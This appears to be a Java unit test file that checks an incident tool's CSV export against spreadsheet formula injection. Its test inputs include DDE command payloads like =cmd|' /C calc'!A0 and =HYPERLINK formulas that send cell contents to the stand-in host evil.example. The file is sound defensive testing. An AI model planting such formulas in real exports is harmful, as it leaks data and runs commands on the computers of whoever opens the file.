package io.hikeshi.web;

import static org.junit.jupiter.api.Assertions.assertEquals;

import io.hikeshi.core.incident.Incident;
import io.hikeshi.core.incident.IncidentId;
import io.hikeshi.core.incident.IncidentQuery;
import io.hikeshi.core.incident.Severity;
import io.hikeshi.core.people.Names;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The CSV export against formula injection (OWASP CSV Injection): whatever a person or a monitor
 * wrote, no cell of the export begins with what a spreadsheet reads as a formula, and the text
 * comes back whole.
 */
class CsvInjectionTest {

    private static final Instant T0 = Instant.parse("2026-11-24T03:00:00Z");

    @ParameterizedTest(name = "refused: {0}")
    @ValueSource(strings = {
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1:A9)",
            "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"see details\")",
            "=HYPERLINK(\"https://evil.example\")\nsee details",
            "=cmd|' /C calc'!A0\r\nrest",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\u0000=1+1",
            " =1+1",
            "   @SUM(A1)",
            "\u3000=1+1",
            "\u00a0=1+1",
            "\uFF1D1+1",
            "\uFF0B1+1",
            "\uFF0D1+1",
            "\uFF20SUM(A1)",
            "=\"a\",\"b\"",
            "-2+3+cmd|' /C calc'!A0",
            "@\n@\n@",
    })
    void formula_isExportedAsText_andKeptWhole(String written) {
        // GIVEN an incident whose title and service someone wrote as a formula
        Incident incident = Incident.open(IncidentId.parse("INC-0001"), written, Severity.SEV2, written, null, null, T0);

        // WHEN the list is exported as CSV
        String csv = IncidentExport.csv(new IncidentQuery.Page<>(List.of(incident), null), Names.NONE).body();

        // THEN the file holds one header and one row, and both cells begin with ' and then say exactly what is stored
        List<List<String>> rows = Rfc4180.parse(csv);
        assertEquals(2, rows.size(), csv);
        assertEquals(quotedAsText(incident.title()), rows.get(1).get(1), "title");
        assertEquals(quotedAsText(incident.service()), rows.get(1).get(4), "service");
    }

    @ParameterizedTest(name = "kept as written: {0}")
    @ValueSource(strings = {"Payment API returns 5xx", "決済APIが5xxを返す", "a = b", "latency +30% @ peak",
            "line one\nline two", "1-2", "'quoted'",
            "\"=1+1\" (quoted, so text)"})
    void ordinaryText_isExportedAsWritten(String written) {
        // GIVEN an incident with an ordinary title
        Incident incident = Incident.open(IncidentId.parse("INC-0001"), written, Severity.SEV2, "payment-api", null, null, T0);

        // WHEN the list is exported as CSV
        String csv = IncidentExport.csv(new IncidentQuery.Page<>(List.of(incident), null), Names.NONE).body();

        // THEN the title cell is the text, untouched
        assertEquals(incident.title(), Rfc4180.parse(csv).get(1).get(1));
    }

    @ParameterizedTest(name = "a name written as a formula: {0}")
    @ValueSource(strings = {"=HYPERLINK(\"https://evil.example\",\"Alice\")", "@SUM(A1)", "\uFF0Dbob", " +81 90"})
    void aCommandersName_isExportedAsText_besideTheirId(String name) {
        // GIVEN an incident commanded by someone whose Slack name is a formula
        Incident incident = Incident.open(IncidentId.parse("INC-0001"), "Payment API returns 5xx", Severity.SEV2,
                "payment-api", null, null, T0).withCommander("U0MALLORY");

        // WHEN the list is exported as CSV
        String csv = IncidentExport.csv(new IncidentQuery.Page<>(List.of(incident), null),
                new Names(java.util.Map.of("U0MALLORY", name))).body();

        // THEN the id stays in "commander", and "commander_name" holds the name as text
        List<List<String>> rows = Rfc4180.parse(csv);
        assertEquals(List.of("commander", "commander_name"), rows.get(0).subList(5, 7));
        assertEquals(List.of("U0MALLORY", quotedAsText(name)), rows.get(1).subList(5, 7));
    }

    /** What a formula must read as: text, marked by a leading apostrophe (which spreadsheets hide). */
    private static String quotedAsText(String written) {
        return "'" + written;
    }

    /** An RFC 4180 reader: quoted fields may hold commas, doubled quotes and line breaks. */
    static final class Rfc4180 {

        static List<List<String>> parse(String csv) {
            List<List<String>> rows = new ArrayList<>();
            List<String> row = new ArrayList<>();
            StringBuilder field = new StringBuilder();
            boolean quoted = false;
            for (int i = 0; i < csv.length(); i++) {
                char c = csv.charAt(i);
                if (quoted && c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = !quoted;
                } else if (!quoted && c == ',') {
                    row.add(field.toString());
                    field.setLength(0);
                } else if (!quoted && c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                    row.add(field.toString());
                    field.setLength(0);
                    rows.add(row);
                    row = new ArrayList<>();
                    i++;
                } else {
                    field.append(c);
                }
            }
            return rows;
        }
    }
}
